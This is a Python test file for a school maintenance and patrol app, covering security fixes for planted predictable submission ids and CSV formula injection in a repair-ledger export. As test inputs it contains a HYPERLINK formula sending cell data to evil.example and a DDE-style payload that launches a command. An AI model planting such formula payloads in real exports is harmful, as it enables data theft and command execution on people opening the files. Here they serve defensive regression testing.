"""Issue 10, one test per finding: planted submission ids, photo memory, import bombs, "database is locked",
formula injection in exports, and 500s on bad input."""
import csv
import datetime as dt
import io
import re
import uuid

import pytest
from helpers import csrf_token, login
from test_patrol_helpers import around_now, make_route

from houqin.clock import utcnow
from houqin.exports import safe_cell
from houqin.models import PatrolRun, PatrolScan, Place, Record, RouteStop, Tag, WorkOrder

# The namespace and key shapes the patrol checkpoint used for its record ids before issue 10: anyone who knows
# them (they were in the source) could compute a guard's next id.
OLD_SCAN_NAMESPACE = uuid.UUID('6f1d8a52-3c0e-4b7a-9a55-7d1c2e9b4f10')


@pytest.fixture
def live_route(app, school):
    """A route whose one round is running now: 校门 → 配电房."""
    route, places, tags, stops = make_route(school['campus'], ['校门', '配电房'], shift=around_now(utcnow()),
                                            every=24 * 60)
    return {'route': route, 'places': places, 'tags': tags, 'stops': stops}


def predictable_patrol_ids(route, guard, place):
    """Every id the old scheme would give the guard's next scan of the place: in the round (the next runs,
    which are numbered in order) and outside any round (this five-minute bucket and the next)."""
    stop = RouteStop.get((RouteStop.route == route) & (RouteStop.place == place))
    last_run = PatrolRun.select(PatrolRun.id).order_by(PatrolRun.id.desc()).scalar() or 0
    keys = [f'patrol:{run}:{stop.id}:{guard.id}' for run in range(last_run + 1, last_run + 4)]
    bucket = int(utcnow().timestamp()) // 300
    keys += [f'patrol:{place.id}:{guard.id}:{b}' for b in (bucket, bucket + 1)]
    return [str(uuid.uuid5(OLD_SCAN_NAMESPACE, key)) for key in keys]


@pytest.mark.parametrize('attacker', ['anonymous', 'teacher'])
def test_a_planted_patrol_id_never_spoils_the_guards_scan(app, school, live_route, attacker):
    """Finding 1: an attacker sends reports at the checkpoint carrying every id the guard's next scan could
    get; the guard's scan is still recorded, answered 200, and each report is the attacker's own record."""
    guard = school['users']['guard']
    place, tag = live_route['places'][0], live_route['tags'][0]
    client = app.test_client()
    if attacker != 'anonymous':
        assert login(client, attacker).status_code == 302
    planted = predictable_patrol_ids(live_route['route'], guard, place)
    for sid in planted:
        data = {'csrf_token': csrf_token(client, f'/t/{tag.token}'), 'submission_id': sid, 'title': '门坏了'}
        assert client.post(f'/t/{tag.token}/report', data=data).status_code == 302
    assert Record.select().where(Record.activity == 'report').count() == len(planted)
    guard_client = app.test_client()
    assert login(guard_client, 'guard').status_code == 302
    for _reload in range(2):
        response = guard_client.get(f'/t/{tag.token}')
        assert response.status_code == 200
        assert '1/2' in response.get_data(as_text=True)
    scan = PatrolScan.get()
    assert (scan.user_id, scan.place_id, scan.record.activity, scan.record.user_id) == (
        guard.id, place.id, 'patrol', guard.id)
    assert PatrolScan.select().count() == 1
    reports = list(Record.select().where(Record.activity == 'report'))
    assert {r.user_id for r in reports} == ({None} if attacker == 'anonymous' else {school['users'][attacker].id})
    assert WorkOrder.select().count() == len(planted)


def test_the_same_client_id_from_two_people_is_two_records(app, school):
    """Finding 1: a submission id is the submitter's own; another person (or address) sending the same id
    stores their own record instead of being answered with, or refused for, the first person's."""
    sid = str(uuid.uuid4())
    tag = Tag.get(Tag.token == 'ABCDEFGH12')
    answers = []
    for who in ('teacher', 'janitor', None):
        client = app.test_client()
        if who:
            assert login(client, who).status_code == 302
        data = {'csrf_token': csrf_token(client, f'/t/{tag.token}'), 'submission_id': sid, 'title': f'{who} 报修'}
        answers.append(client.post(f'/t/{tag.token}/report', data=data).status_code)
        answers.append(client.post(f'/t/{tag.token}/report', data=data).status_code)  # a double tap: stored once
    assert answers == [302] * 6
    assert sorted(r.note for r in Record.select()) == ['None 报修', 'janitor 报修', 'teacher 报修']
    assert sorted(o.title for o in WorkOrder.select()) == ['None 报修', 'janitor 报修', 'teacher 报修']


def test_ledger_csv_cells_never_run_as_formulas(app, school, as_role):
    """Finding 5: an anonymous report titled like a formula, a reporter named like one and a place named like
    one reach the ledger CSV as text (a leading apostrophe), every other cell unchanged."""
    title = '=HYPERLINK("http://evil.example/?x="&B2,"Click")'
    name = "@SUM(1+1)*cmd|' /C calc'!A0"
    Place.update(name='+地下楼').where(Place.id == school['building'].id).execute()
    client = app.test_client()
    data = {'csrf_token': csrf_token(client, '/t/ABCDEFGH12'), 'submission_id': str(uuid.uuid4()), 'title': title,
            'name': name, 'phone': '-1'}
    assert client.post('/t/ABCDEFGH12/report', data=data).status_code == 302
    WorkOrder.update(liable_party='\t-cmd').execute()
    response = as_role('manager').get('/repairs/ledger.csv')
    assert response.status_code == 200
    rows = list(csv.reader(io.StringIO(response.get_data(as_text=True).lstrip('\ufeff'))))
    assert len(rows) == 2
    number, _reported, where, problem, *_middle, reporter, _repaired, _due, _done, _closed, _cost, liable, _comp = \
        rows[1]
    assert (problem, reporter, where, liable) == ("'" + title, "'" + name, "'+地下楼 › 一楼 › 101教室", "'\t-cmd")
    assert number == WorkOrder.get().number
    assert not any(cell.startswith(('=', '+', '-', '@', '\t', '\r')) for cell in rows[0] + rows[1])


@pytest.mark.parametrize('value, expected', [
    ('=1+1', "'=1+1"), ('+86 138', "'+86 138"), ('-5', "'-5"), ('@A1', "'@A1"), ('\tx', "'\tx"), ('\rx', "'\rx"),
    ('一楼 = 二楼', '一楼 = 二楼'), ('', ''), (-5, -5), (None, None), ("'=x", "'=x")])
def test_safe_cell(value, expected):
    assert safe_cell(value) == expected
